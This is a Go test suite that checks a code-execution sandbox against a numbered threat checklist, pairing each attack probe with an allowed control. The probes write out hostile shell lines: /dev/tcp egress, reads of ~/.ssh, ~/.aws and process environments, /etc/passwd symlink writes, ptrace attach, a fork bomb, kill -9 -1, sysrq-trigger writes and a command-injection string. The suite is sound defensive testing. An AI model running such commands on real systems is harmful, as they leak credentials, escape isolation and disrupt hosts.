package sandbox

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestThreats runs every attack of the threat checklist
// (shared/notes/sandbox-threats.md §3) through the real MCP path, each deny
// probe next to an allow probe, so that a sandbox that blocks everything
// fails as surely as one that blocks nothing.
func TestThreats(t *testing.T) {
	s := newTestSandbox(t, nil)
	cs := connect(t, s)
	// A second server whose sandboxes share the host network: the allow
	// side of the network rows.
	netS := newTestSandbox(t, func(c *Config) { c.Network = true })
	netCS := connect(t, netS)

	// A host service on loopback, like Ollama's unauthenticated API.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go serveHello(ln)
	port := ln.Addr().(*net.TCPAddr).Port

	clean := func(t *testing.T) {
		t.Helper()
		if d := waitNoDescendants(); len(d) > 0 {
			t.Errorf("processes survived the call: %v", d)
		}
	}

	t.Run("01 egress", func(t *testing.T) {
		r := py(t, cs, `
import socket, errno
for fam, addr in [(socket.AF_INET, ("1.1.1.1", 80)), (socket.AF_INET6, ("2606:4700:4700::1111", 80, 0, 0))]:
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        print("BREACH", addr)
    except OSError as e:
        print("denied", errno.errorcode.get(e.errno, e.errno))
try:
    socket.getaddrinfo("example.com", 80)
    print("BREACH dns")
except OSError as e:
    print("denied dns", e)
`)
		out := ok(t, r)
		if strings.Contains(out, "BREACH") || strings.Count(out, "denied") != 3 {
			t.Fatalf("egress not blocked:\n%s", r.text)
		}
		if !strings.Contains(out, "ENETUNREACH") {
			t.Errorf("want ENETUNREACH for a raw IP, got:\n%s", out)
		}
		// /dev/tcp through bash, and getent.
		r = sh(t, cs, `bash -c 'echo x >/dev/tcp/1.1.1.1/80' 2>&1 && echo BREACH; getent hosts example.com && echo BREACH; echo done`)
		if out := ok(t, r); strings.Contains(out, "BREACH") || !strings.Contains(out, "done") {
			t.Fatalf("egress through bash or getent:\n%s", r.text)
		}
		// Allow: the sandbox's own loopback works.
		r = py(t, cs, `
import socket, threading
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
threading.Thread(target=lambda: srv.accept()[0].sendall(b"pong"), daemon=True).start()
c = socket.create_connection(srv.getsockname(), timeout=3)
print(c.recv(4).decode())
`)
		if out := ok(t, r); strings.TrimSpace(out) != "pong" {
			t.Fatalf("loopback inside the sandbox should work:\n%s", r.text)
		}
		clean(t)
	})

	t.Run("02 host services", func(t *testing.T) {
		code := fmt.Sprintf(`
import socket
try:
    c = socket.create_connection(("127.0.0.1", %d), timeout=3)
    print("REACHED", c.recv(5).decode())
except OSError as e:
    print("denied", e)
`, port)
		if out := ok(t, py(t, cs, code)); !strings.Contains(out, "denied") || strings.Contains(out, "REACHED") {
			t.Fatalf("host loopback service reachable from the sandbox:\n%s", out)
		}
		// Allow: with --sandbox-network the same probe reaches it, so the
		// probe itself works.
		if out := ok(t, py(t, netCS, code)); !strings.Contains(out, "REACHED hello") {
			t.Fatalf("with Network the host service should be reachable:\n%s", out)
		}
		clean(t)
	})

	t.Run("03 bypass", func(t *testing.T) {
		// Only fds 0-2 (ls adds one for the directory it reads).
		out := ok(t, sh(t, cs, `ls /proc/self/fd | sort -n | tr '\n' ' '`))
		if strings.TrimSpace(out) != "0 1 2 3" {
			t.Errorf("fds in the sandbox: %q, want 0 1 2 (+3 for ls)", out)
		}
		out = ok(t, py(t, cs, `import os; print(sorted(int(f) for f in os.listdir("/proc/self/fd")))`))
		if strings.TrimSpace(out) != "[0, 1, 2, 3]" {
			t.Errorf("fds in python_run: %q, want [0, 1, 2, 3] (3 is listdir's)", out)
		}
		// An abstract unix socket on the host (such sockets belong to the
		// network namespace) and a docker.sock-like socket file.
		name := fmt.Sprintf("membrane-test-%d", os.Getpid())
		aln, err := net.Listen("unix", "@"+name)
		if err != nil {
			t.Fatal(err)
		}
		defer aln.Close()
		go serveHello(aln)
		code := fmt.Sprintf(`
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0%s"); print("REACHED", s.recv(5).decode())
except OSError as e:
    print("denied", e)
for p in ["/var/run/docker.sock", "/run/docker.sock", %q]:
    try:
        socket.socket(socket.AF_UNIX).connect(p); print("REACHED", p)
    except OSError as e:
        print("denied", p, e.strerror)
`, name, filepath.Join(t.TempDir(), "x.sock"))
		if out := ok(t, py(t, cs, code)); strings.Contains(out, "REACHED") {
			t.Fatalf("host sockets reachable:\n%s", out)
		}
		// Allow: with the host network the abstract socket is there.
		if out := ok(t, py(t, netCS, code)); !strings.Contains(out, "REACHED hello") {
			t.Fatalf("with Network the abstract socket should be reachable:\n%s", out)
		}
		// curl --noproxy cannot help without a network.
		r := sh(t, cs, fmt.Sprintf(`curl --noproxy '*' -sS -m 3 http://127.0.0.1:%d/ 2>&1; echo rc=$?`, port))
		if out := ok(t, r); strings.Contains(out, "hello") || strings.Contains(out, "rc=0") {
			t.Fatalf("curl --noproxy reached the host:\n%s", out)
		}
		clean(t)
	})

	t.Run("04 write outside workspace", func(t *testing.T) {
		hostTmp := fmt.Sprintf("/tmp/membrane-breach-%d", os.Getpid())
		defer os.Remove(hostTmp)
		r := sh(t, cs, `for f in /etc/membrane-x /usr/x /x /root/.bashrc /dev/x /proc/x; do if echo x >"$f"; then echo "BREACH $f"; fi; done 2>&1; echo x > `+hostTmp+` && echo wrote-private-tmp`)
		out := ok(t, r)
		if strings.Contains(out, "BREACH") {
			t.Fatalf("wrote outside the workspace:\n%s", out)
		}
		if !strings.Contains(out, "Read-only file system") {
			t.Errorf("want EROFS, got:\n%s", out)
		}
		if _, err := os.Stat(hostTmp); !os.IsNotExist(err) {
			t.Fatalf("the sandbox's /tmp is the host's: %s exists", hostTmp)
		}
		// Allow: the workspace and the private /tmp are writable, and a
		// workspace file reaches the host's workspace directory.
		out = ok(t, sh(t, cs, `echo data > /workspace/w && echo t > /tmp/t && cat /workspace/w /tmp/t`))
		if out != "data\nt\n" {
			t.Fatalf("workspace and /tmp should be writable, got %q", out)
		}
		clean(t)
	})

	t.Run("05 read secrets", func(t *testing.T) {
		secretDir := t.TempDir()
		if err := os.WriteFile(filepath.Join(secretDir, "token"), []byte("SECRET-TOKEN"), 0o644); err != nil {
			t.Fatal(err)
		}
		home, _ := os.UserHomeDir()
		wd, _ := os.Getwd()
		probe := fmt.Sprintf(`for p in %s/.ssh %s/.aws /root %s/token %s /work /home; do if ls "$p" >/dev/null 2>&1; then echo "SEEN $p"; else echo "hidden $p"; fi; done; cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -c SECRET-ENV || true`,
			home, home, secretDir, wd)
		t.Setenv("MEMBRANE_TEST_SECRET", "SECRET-ENV")
		out := ok(t, sh(t, cs, probe))
		if strings.Contains(out, "SEEN") {
			t.Fatalf("host paths visible:\n%s", out)
		}
		if !strings.HasSuffix(out, "0\n") {
			t.Fatalf("membrane's environment visible through /proc:\n%s", out)
		}
		// Allow: the system and the workspace are readable.
		out = ok(t, sh(t, cs, `echo mine > /workspace/own && cat /workspace/own && test -r /etc/os-release && test -x /usr/bin/env && echo readable`))
		if out != "mine\nreadable\n" {
			t.Fatalf("workspace and system should be readable, got %q", out)
		}
		clean(t)
	})

	t.Run("06 environment", func(t *testing.T) {
		t.Setenv("MEMBRANE_TEST_SECRET", "SECRET-ENV")
		t.Setenv("OPENAI_API_KEY", "sk-test")
		out := ok(t, sh(t, cs, `env | sort`))
		var keys []string
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			k, _, _ := strings.Cut(l, "=")
			keys = append(keys, k)
		}
		allowed := map[string]bool{"PWD": true, "SHLVL": true, "_": true}
		for _, kv := range sandboxEnv("", "") {
			k, _, _ := strings.Cut(kv, "=")
			allowed[k] = true
		}
		for _, k := range keys {
			if !allowed[k] {
				t.Errorf("variable %s leaked into the sandbox", k)
			}
		}
		// Allow: the fixed environment is there.
		if !strings.Contains(out, "HOME=/workspace\n") || !strings.Contains(out, "PATH=") {
			t.Fatalf("fixed environment missing:\n%s", out)
		}
		clean(t)
	})

	t.Run("07 symlink and hardlink", func(t *testing.T) {
		before := fileHash(t, "/etc/passwd")
		r := sh(t, cs, `ln -sf /etc/passwd l && (echo pwned >> l) 2>&1; ln /etc/passwd h 2>&1 && echo BREACH-hardlink; ln -sf / root && (echo x > root/etc/x) 2>&1; echo done`)
		out := ok(t, r)
		if strings.Contains(out, "BREACH") || !strings.Contains(out, "done") {
			t.Fatalf("link escape:\n%s", out)
		}
		if fileHash(t, "/etc/passwd") != before {
			t.Fatal("the host's /etc/passwd changed")
		}
		// A link swapped while another call runs cannot point anywhere the
		// sandbox could not already reach: swap it in a loop while writing
		// through it.
		r = sh(t, cs, `mkdir -p d; (for i in $(seq 200); do ln -sfn /etc d2; ln -sfn d d2; done) & for i in $(seq 200); do echo y > d2/f 2>/dev/null; done; wait; ls /etc/f 2>/dev/null && echo BREACH; echo done`)
		if out := ok(t, r); strings.Contains(out, "BREACH") {
			t.Fatalf("symlink race escaped:\n%s", out)
		}
		// Allow: links inside the workspace work.
		if out := ok(t, sh(t, cs, `echo in > a && ln -sf a b && ln a c && cat b c`)); out != "in\nin\n" {
			t.Fatalf("links inside the workspace should work, got %q", out)
		}
		clean(t)
	})

	t.Run("08 path escapes", func(t *testing.T) {
		// The workspace's parents inside the sandbox are the sandbox's own
		// root, not the host's directory of workspaces: a sibling session's
		// files, or a sibling prefix such as /workspace_evil, are not there.
		other := connect(t, s)
		ok(t, sh(t, other, `echo theirs > sibling-marker`))
		out := ok(t, sh(t, cs, `ls -a /workspace/.. | tr '\n' ' '; ls /workspace/../../ws 2>&1; ls /workspace_evil 2>&1; find / \( -path /proc -o -path /usr \) -prune -o -name sibling-marker -print 2>/dev/null | grep . && echo BREACH; echo done`))
		if strings.Contains(out, "BREACH") || !strings.Contains(out, "done") {
			t.Fatalf("escaped the workspace:\n%s", out)
		}
		// Allow: the owner sees its own file.
		if out := ok(t, sh(t, other, `find / \( -path /proc -o -path /usr \) -prune -o -name sibling-marker -print 2>/dev/null; true`)); strings.TrimSpace(out) != "/workspace/sibling-marker" {
			t.Fatalf("own file not found: %q", out)
		}
		clean(t)
	})

	t.Run("09 proc and sys", func(t *testing.T) {
		out := ok(t, sh(t, cs, `ls -d /proc/[0-9]* | wc -l; tr '\0' ' ' </proc/1/cmdline; echo; (echo b > /proc/sysrq-trigger) 2>&1 | head -1; ls /sys 2>&1 | head -1`))
		lines := strings.Split(out, "\n")
		n, _ := strconv.Atoi(strings.TrimSpace(lines[0]))
		if n < 2 || n > 8 {
			t.Errorf("want a handful of PIDs in /proc, got %d", n)
		}
		if !strings.Contains(lines[1], "bwrap") {
			t.Errorf("pid 1 should be the sandbox's init, got %q", lines[1])
		}
		if strings.Contains(out, "b\n") && !strings.Contains(lines[2], "Read-only") && !strings.Contains(lines[2], "denied") {
			t.Errorf("sysrq-trigger writable? %q", lines[2])
		}
		if !strings.Contains(out, "No such file") {
			t.Errorf("/sys should be absent:\n%s", out)
		}
		// Allow: its own /proc entries are readable.
		if out := ok(t, sh(t, cs, `grep -c '^Pid:' /proc/self/status`)); strings.TrimSpace(out) != "1" {
			t.Fatalf("/proc/self should be readable: %q", out)
		}
		clean(t)
	})

	t.Run("10 ptrace the server", func(t *testing.T) {
		code := fmt.Sprintf(`
import ctypes, os, errno
libc = ctypes.CDLL(None, use_errno=True)
for pid in (%d, 1):
    r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    print("attach", pid, r, errno.errorcode.get(ctypes.get_errno()))
try:
    os.kill(%d, 0); print("BREACH sees server")
except OSError as e:
    print("server invisible", errno.errorcode[e.errno])
`, os.Getpid(), os.Getpid())
		out := ok(t, py(t, cs, code))
		if strings.Contains(out, "BREACH") || strings.Contains(out, " 0 ") || !strings.Contains(out, "ESRCH") {
			t.Fatalf("ptrace or signal reached out:\n%s", out)
		}
		// Allow: signals to its own processes work.
		if out := ok(t, sh(t, cs, `sleep 30 & kill $! && wait $!; echo rc=$?`)); !strings.Contains(out, "rc=143") {
			t.Fatalf("killing its own child should work: %q", out)
		}
		clean(t)
	})

	t.Run("11 setuid and capabilities", func(t *testing.T) {
		out := ok(t, sh(t, cs, `cp /bin/sh ./suid && chmod u+s ./suid; ./suid -c 'id -u'; grep -E '^(NoNewPrivs|CapEff|CapPrm):' /proc/self/status; sudo -n true 2>&1 || echo no-sudo`))
		for _, want := range []string{"1000\n", "NoNewPrivs:\t1", "CapEff:\t0000000000000000", "CapPrm:\t0000000000000000", "no-sudo"} {
			if !strings.Contains(out, want) {
				t.Errorf("want %q in:\n%s", want, out)
			}
		}
		// Allow: the sandbox user is an ordinary user that can run programs.
		if out := ok(t, sh(t, cs, `id -un`)); out != "sandbox\n" {
			t.Fatalf("id -un = %q", out)
		}
		clean(t)
	})

	t.Run("12 namespaces mount io_uring", func(t *testing.T) {
		out := ok(t, sh(t, cs, `unshare -Ur true 2>&1 && echo BREACH-unshare; mount -t tmpfs x /tmp 2>&1 && echo BREACH-mount; echo done`))
		if strings.Contains(out, "BREACH") {
			t.Fatalf("namespace or mount allowed:\n%s", out)
		}
		code := `
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)  # io_uring_setup
print("io_uring", fd, errno.errorcode.get(ctypes.get_errno()))
print("getpid", libc.syscall(39) > 0)
`
		out = ok(t, py(t, cs, code))
		if !strings.Contains(out, "io_uring -1 EPERM") {
			t.Fatalf("io_uring not denied:\n%s", out)
		}
		// Allow: ordinary syscalls through the same path work.
		if !strings.Contains(out, "getpid True") {
			t.Fatalf("getpid through syscall() should work:\n%s", out)
		}
		clean(t)
	})

	t.Run("13 kill the parent", func(t *testing.T) {
		r := sh(t, cs, `kill -9 $PPID; kill -9 -1; echo survived`)
		_ = r // the shell may or may not survive its own kill -1
		// The server is unaffected: the next call works.
		if out := ok(t, sh(t, cs, `echo alive`)); out != "alive\n" {
			t.Fatalf("server broken after kill -9 -1: %q", out)
		}
		clean(t)
	})

	t.Run("14 fork bomb", func(t *testing.T) {
		r := call(t, cs, "sh", map[string]any{"cmd": `f(){ f|f & }; f; sleep 2; echo bomb-over`, "timeout_s": 30})
		if r.flag("timed_out") {
			t.Fatalf("the fork bomb ran to the timeout instead of hitting the process cap:\n%s", r.text)
		}
		if d := waitNoDescendants(); len(d) > 0 {
			t.Fatalf("fork bomb left processes: %d, e.g. %v", len(d), d[:min(5, len(d))])
		}
		// Allow: well under the cap, 40 background processes run fine.
		out := ok(t, sh(t, cs, `for i in $(seq 40); do sleep 1 & done; ls -d /proc/[0-9]* | wc -l; wait; echo all-done`))
		if !strings.Contains(out, "all-done") {
			t.Fatalf("40 processes should run: %q", out)
		}
	})

	t.Run("15 memory bomb", func(t *testing.T) {
		rss := selfRSS(t)
		r := py(t, cs, `x = bytearray(8 << 30)`)
		failed(t, r)
		if !strings.Contains(r.stderr(), "MemoryError") {
			t.Fatalf("want MemoryError:\n%s", r.text)
		}
		if grown := selfRSS(t) - rss; grown > 64<<20 {
			t.Errorf("server RSS grew by %d bytes", grown)
		}
		// Allow: 100 MiB is fine.
		if out := ok(t, py(t, cs, `x = bytearray(100 << 20); print(len(x))`)); out != "104857600\n" {
			t.Fatalf("100 MiB should fit: %q", out)
		}
		clean(t)
	})

	t.Run("16 cpu spin", func(t *testing.T) {
		r := call(t, cs, "sh", map[string]any{"cmd": `while :; do :; done`, "timeout_s": 1})
		if !r.res.IsError || !r.flag("timed_out") || !r.flag("killed") || !strings.Contains(r.text, "timed out") {
			t.Fatalf("spin should time out:\n%s", r.text)
		}
		// Allow: a short computation finishes.
		if out := ok(t, call(t, cs, "sh", map[string]any{"cmd": `i=0; while [ $i -lt 1000 ]; do i=$((i+1)); done; echo $i`, "timeout_s": 10})); out != "1000\n" {
			t.Fatalf("short loop: %q", out)
		}
		clean(t)
	})

	t.Run("17 disk fill", func(t *testing.T) {
		// /tmp is a tmpfs of TmpBytes (8 MiB); files are capped at
		// FileSizeBytes (8 MiB) everywhere.
		out := ok(t, sh(t, cs, `(head -c 6000000 /dev/zero > /tmp/a; head -c 6000000 /dev/zero > /tmp/b) 2>&1; rm -f /tmp/a /tmp/b; (dd if=/dev/zero of=/workspace/big bs=1M count=20 2>&1; echo "rc=$?") | grep -E 'rc=|error'; rm -f /tmp/big /workspace/big`))
		if !strings.Contains(out, "No space left on device") {
			t.Errorf("/tmp not capped:\n%s", out)
		}
		if strings.Contains(out, "rc=0") {
			t.Errorf("workspace file not capped:\n%s", out)
		}
		// Allow: 1 MiB files are fine in both.
		if out := ok(t, sh(t, cs, `head -c 1048576 /dev/zero > /tmp/a && head -c 1048576 /dev/zero > /workspace/a && wc -c < /tmp/a && wc -c < /workspace/a; rm /workspace/a`)); out != "1048576\n1048576\n" {
			t.Fatalf("1 MiB files: %q", out)
		}
		clean(t)
	})

	t.Run("18 output flood", func(t *testing.T) {
		for _, cmd := range []string{`yes`, `head -c 1000000000 /dev/urandom`} {
			r := call(t, cs, "sh", map[string]any{"cmd": cmd, "timeout_s": 30})
			if r.flag("timed_out") {
				t.Fatalf("%s: the flood ran to the timeout", cmd)
			}
			if !r.flag("stdout_truncated") || !strings.Contains(r.text, "stdout truncated") {
				t.Fatalf("%s: no truncation marker:\n%.300s", cmd, r.text)
			}
			if n := len(r.stdout()); n > 2*int(testConfig().OutputBytes)+500 {
				t.Fatalf("%s: %d bytes of stdout returned, cap is %d", cmd, n, testConfig().OutputBytes)
			}
		}
		// Allow: output under the cap is whole and unmarked.
		r := sh(t, cs, `seq 1000`)
		if out := ok(t, r); !strings.HasSuffix(out, "\n1000\n") || r.flag("stdout_truncated") || strings.Contains(r.text, "truncated") {
			t.Fatalf("small output altered:\n%.300s", r.text)
		}
		clean(t)
	})

	t.Run("19 binary output", func(t *testing.T) {
		r := sh(t, cs, `printf '\377\000\033[2J\376ok'`)
		out := ok(t, r)
		if !strings.Contains(out, "\uFFFD") || !strings.HasSuffix(out, "ok") {
			t.Fatalf("binary output not made valid UTF-8: %q", out)
		}
		// Allow: valid UTF-8 passes unchanged.
		if out := ok(t, sh(t, cs, `printf 'h\303\251llo \342\234\223'`)); out != "héllo ✓" {
			t.Fatalf("UTF-8 altered: %q", out)
		}
		clean(t)
	})

	t.Run("20 stdio pollution", func(t *testing.T) {
		r := sh(t, cs, `(echo to-tty > /dev/tty) 2>&1; echo to-stdout; echo to-stderr >&2`)
		out := ok(t, r)
		if !strings.Contains(out, "to-stdout") || r.stderr() != "to-stderr\n" {
			t.Fatalf("streams not captured: %q / %q", out, r.stderr())
		}
		if !strings.Contains(out, "No such device or address") {
			t.Fatalf("/dev/tty should be unusable (new session): %q", out)
		}
		clean(t)
	})

	t.Run("21 orphans and daemons", func(t *testing.T) {
		marker := strconv.Itoa(900000 + os.Getpid()%99999)
		r := sh(t, cs, `setsid nohup sleep `+marker+` >/dev/null 2>&1 & (sleep `+marker+` &) ; sleep 0.3; n=0; for f in /proc/[0-9]*/cmdline; do [ "$(tr '\0' ' ' <$f 2>/dev/null)" = "sleep `+marker+` " ] && n=$((n+1)); done; echo $n`)
		// Allow: inside the call both background processes run.
		if out := ok(t, r); strings.TrimSpace(out) != "2" {
			t.Fatalf("background processes should run during the call: %q", out)
		}
		if left := sleepers(marker); len(left) > 0 {
			t.Fatalf("daemons survived the call: %v", left)
		}
		// And after a timeout too.
		call(t, cs, "sh", map[string]any{"cmd": `setsid nohup sleep ` + marker + ` >/dev/null 2>&1 & sleep 60`, "timeout_s": 0.5})
		if left := sleepers(marker); len(left) > 0 {
			t.Fatalf("daemons survived a timeout: %v", left)
		}
		clean(t)
	})

	t.Run("22 ignores SIGTERM", func(t *testing.T) {
		r := call(t, cs, "sh", map[string]any{"cmd": `trap '' TERM INT HUP; sleep 999`, "timeout_s": 0.5})
		if !r.flag("timed_out") || !r.res.IsError {
			t.Fatalf("want a timeout:\n%s", r.text)
		}
		clean(t)
		// Allow: a trap that is not triggered does not change the result.
		if out := ok(t, sh(t, cs, `trap '' TERM; echo fine`)); out != "fine\n" {
			t.Fatalf("%q", out)
		}
	})

	t.Run("23 zombies", func(t *testing.T) {
		out := ok(t, sh(t, cs, `i=0; while [ $i -lt 1000 ]; do true & i=$((i+1)); [ $((i % 50)) -eq 0 ] && wait; done; wait; grep -l '^State:[[:space:]]*Z' /proc/[0-9]*/status 2>/dev/null | wc -l; echo spawned=$i`))
		if !strings.Contains(out, "spawned=1000") {
			t.Fatalf("1000 children should run: %q", out)
		}
		if !strings.HasPrefix(out, "0\n") {
			t.Fatalf("zombies inside: %q", out)
		}
		clean(t)
	})

	t.Run("24 cross-call isolation", func(t *testing.T) {
		a, b := connect(t, s), connect(t, s)
		var ra ran
		var wg sync.WaitGroup
		wg.Add(1)
		go func() {
			defer wg.Done()
			ra = sh(t, a, `echo private > mine; sleep 2; cat mine; echo a-finished`)
		}()
		time.Sleep(500 * time.Millisecond)
		out := ok(t, sh(t, b, `cat /proc/[0-9]*/comm 2>/dev/null | grep -c '^sleep$' ; kill -9 -1 2>/dev/null; ls mine 2>&1; echo b-done`))
		wg.Wait()
		if !strings.HasPrefix(out, "0\n") || !strings.Contains(out, "No such file") {
			t.Fatalf("call B saw call A's processes or files:\n%s", out)
		}
		// Allow: A ran to completion, unharmed, and saw its own file.
		if out := ok(t, ra); out != "private\na-finished\n" {
			t.Fatalf("call A was disturbed: %q", out)
		}
		clean(t)
	})

	// Row 25 (kill -9 the server mid-call) needs a server process of its
	// own: TestStdioServerCrash.

	t.Run("26 runner injection", func(t *testing.T) {
		inj := `'; touch /workspace/pwned; echo '` + "\"; touch /workspace/pwned2; echo \"" + " $(touch /workspace/pwned3) `touch /workspace/pwned4`"
		r := call(t, cs, "python_run", map[string]any{
			"code":  "import sys\nprint(" + strconv.Quote(inj) + ")\nprint(sys.stdin.read())",
			"stdin": inj,
		})
		out := ok(t, r)
		if out != inj+"\n"+inj+"\n" {
			t.Fatalf("code or stdin altered: %q", out)
		}
		if out := ok(t, sh(t, cs, `ls pwned* 2>/dev/null | wc -l`)); strings.TrimSpace(out) != "0" {
			t.Fatalf("injection ran: %s", out)
		}
		// Allow: code that means to write a file does.
		ok(t, py(t, cs, `open("/workspace/meant", "w").write("x")`))
		if out := ok(t, sh(t, cs, `cat meant`)); out != "x" {
			t.Fatalf("%q", out)
		}
		clean(t)
	})
}

func serveHello(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		c.Write([]byte("hello"))
		c.Close()
	}
}

func fileHash(t *testing.T, path string) [32]byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(b)
}

func selfRSS(t *testing.T) int64 { return procKB(t, "/proc/self/status", "VmRSS:") }

// procKB reads the "key N kB" line of a /proc file, in bytes.
func procKB(t *testing.T, file, key string) int64 {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, key); ok {
			n, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return n << 10
		}
	}
	t.Fatalf("no %s in %s", key, file)
	return 0
}

// TestThreatsHardening holds the rows added after membrane was attacked
// from outside (issue 10): other socket families, memory past RLIMIT_AS,
// result frames, host facts in /proc and the workspace quota. Each deny
// probe has its allow control beside it.
func TestThreatsHardening(t *testing.T) {
	s := newTestSandbox(t, nil)
	cs := connect(t, s)
	clean := func(t *testing.T) {
		t.Helper()
		if d := waitNoDescendants(); len(d) > 0 {
			t.Errorf("processes survived the call: %v", d)
		}
	}

	t.Run("27 socket families", func(t *testing.T) {
		// vsock's port space is the host's (the hypervisor on a VM); the
		// others reach raw links, the kernel's crypto, other hosts' buses.
		// Each must fail with EAFNOSUPPORT, and the process live on.
		out := ok(t, py(t, cs, `
import socket, errno, ctypes
libc = ctypes.CDLL(None, use_errno=True)
fams = [("AF_VSOCK", 40, socket.SOCK_STREAM, 0), ("AF_PACKET", 17, socket.SOCK_RAW, 0), ("AF_ALG", 38, socket.SOCK_SEQPACKET, 0),
        ("AF_KCM", 41, socket.SOCK_DGRAM, 0), ("AF_XDP", 44, socket.SOCK_RAW, 0), ("AF_TIPC", 30, socket.SOCK_RDM, 0),
        ("AF_RDS", 21, socket.SOCK_SEQPACKET, 0), ("AF_CAN", 29, socket.SOCK_RAW, 1), ("AF_BLUETOOTH", 31, socket.SOCK_STREAM, 3),
        ("AF_APPLETALK", 5, socket.SOCK_DGRAM, 0), ("AF_X25", 9, socket.SOCK_SEQPACKET, 0), ("family 4242", 4242, socket.SOCK_STREAM, 0)]
for name, fam, typ, proto in fams:
    try:
        socket.socket(fam, typ, proto); print("BREACH socket", name)
    except OSError as e:
        print("socket", name, errno.errorcode.get(e.errno))
    pair = (ctypes.c_int * 2)()
    r = libc.socketpair(fam, typ, proto, pair)
    print("socketpair", name, r, errno.errorcode.get(ctypes.get_errno()))
# The high half of the family argument is not a way around the filter.
r = libc.syscall(41, ctypes.c_long((1 << 32) | 40), 1, 0)
print("socket high bits", r, errno.errorcode.get(ctypes.get_errno()))
print("alive")
`))
		if strings.Contains(out, "BREACH") || !strings.HasSuffix(out, "alive\n") {
			t.Fatalf("a socket family is open:\n%s", out)
		}
		if n := strings.Count(out, "EAFNOSUPPORT"); n != 25 {
			t.Fatalf("want EAFNOSUPPORT from all 12 socket and 12 socketpair calls and the high-bits probe, got %d:\n%s", n, out)
		}
		// Allow: TCP on the sandbox's own loopback, a unix socket pair, a
		// netlink socket, and ip(8) over it.
		out = ok(t, py(t, cs, `
import socket, threading
srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM); srv.bind(("127.0.0.1", 0)); srv.listen(1)
threading.Thread(target=lambda: srv.accept()[0].sendall(b"tcp-ok"), daemon=True).start()
print(socket.create_connection(srv.getsockname(), timeout=5).recv(6).decode())
a, b = socket.socketpair(socket.AF_UNIX); a.sendall(b"unix-ok"); print(b.recv(7).decode())
u = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); u.bind("\0membrane-test"); print("abstract-ok")
n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); n.bind((0, 0)); print("netlink-ok", n.getsockname()[0] > 0)
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); print("inet6-ok")
`))
		for _, want := range []string{"tcp-ok\n", "unix-ok\n", "abstract-ok\n", "netlink-ok True\n", "inet6-ok\n"} {
			if !strings.Contains(out, want) {
				t.Errorf("want %q:\n%s", want, out)
			}
		}
		if _, err := os.Stat("/usr/sbin/ip"); err == nil {
			if out := ok(t, sh(t, cs, `/usr/sbin/ip -o link show lo`)); !strings.Contains(out, "lo:") {
				t.Errorf("ip link over netlink: %q", out)
			}
		}
		clean(t)
	})

	t.Run("28 memory past the cap", func(t *testing.T) {
		testMemfdBomb(t)
		clean(t)
	})

	t.Run("29 result frame", func(t *testing.T) {
		big := newTestSandbox(t, func(c *Config) { c.OutputBytes = DefaultOutputBytes })
		bcs := connect(t, big)
		// 2 MB of \x01 (six bytes each in JSON) on both streams, and of
		// '<' (also six: HTML escaping) and of invalid bytes.
		for _, cmd := range []string{
			`head -c 2000000 /dev/zero | tr '\0' '\001'; head -c 2000000 /dev/zero | tr '\0' '\001' >&2`,
			`head -c 2000000 /dev/zero | tr '\0' '<'; head -c 2000000 /dev/zero | tr '\0' '\377' >&2`,
		} {
			r := sh(t, bcs, cmd)
			frame, err := json.Marshal(r.res)
			if err != nil {
				t.Fatal(err)
			}
			limit := maxResultBytes(DefaultOutputBytes)
			if int64(len(frame)) > limit {
				t.Fatalf("%s: the result encodes to %d bytes, over the stated bound %d", cmd, len(frame), limit)
			}
			if !r.flag("stdout_truncated") || !r.flag("stderr_truncated") || !strings.Contains(r.text, "stdout truncated") || !strings.Contains(r.text, "stderr truncated") {
				t.Fatalf("%s: no truncation markers:\n%.300s", cmd, r.text)
			}
			// The output travels once: in the text, not again in the
			// structured content.
			if _, dup := r.st["stdout"]; dup || !r.flag("output_in_text") {
				t.Fatalf("%s: large output repeated in structured content", cmd)
			}
			if len(frame) < int(DefaultOutputBytes) {
				t.Fatalf("%s: only %d bytes came back; the cap should let about %d through", cmd, len(frame), DefaultOutputBytes)
			}
		}
		// Allow: a small output is whole, in the text and the structured
		// content both.
		r := sh(t, bcs, `printf 'a\001b<c>'; echo err >&2`)
		if out := ok(t, r); out != "a\x01b<c>" || r.stderr() != "err\n" || !strings.Contains(r.text, "a\x01b<c>") {
			t.Fatalf("small output: %q %q\n%s", out, r.stderr(), r.text)
		}
		clean(t)
	})

	t.Run("30 host facts in proc", func(t *testing.T) {
		out := ok(t, sh(t, cs, `for f in /proc/cmdline /proc/partitions /proc/kcore /proc/keys /proc/key-users /proc/timer_list /proc/sched_debug /proc/modules /proc/kallsyms /proc/iomem /proc/diskstats /proc/swaps; do [ -e $f ] || continue; n=$(head -c 4096 $f 2>/dev/null | wc -c); echo "$f $n"; done; for d in /proc/scsi /proc/acpi /proc/driver /proc/fs; do [ -d $d ] && echo "$d $(ls -A $d | wc -l)"; done; ls /sys/firmware 2>&1 | head -1; (echo c > /proc/sysrq-trigger) 2>&1 | head -1`))
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			f := strings.Fields(l)
			if len(f) == 2 && strings.HasPrefix(f[0], "/proc/") && f[1] != "0" {
				t.Errorf("%s shows %s bytes or entries; it should be masked", f[0], f[1])
			}
		}
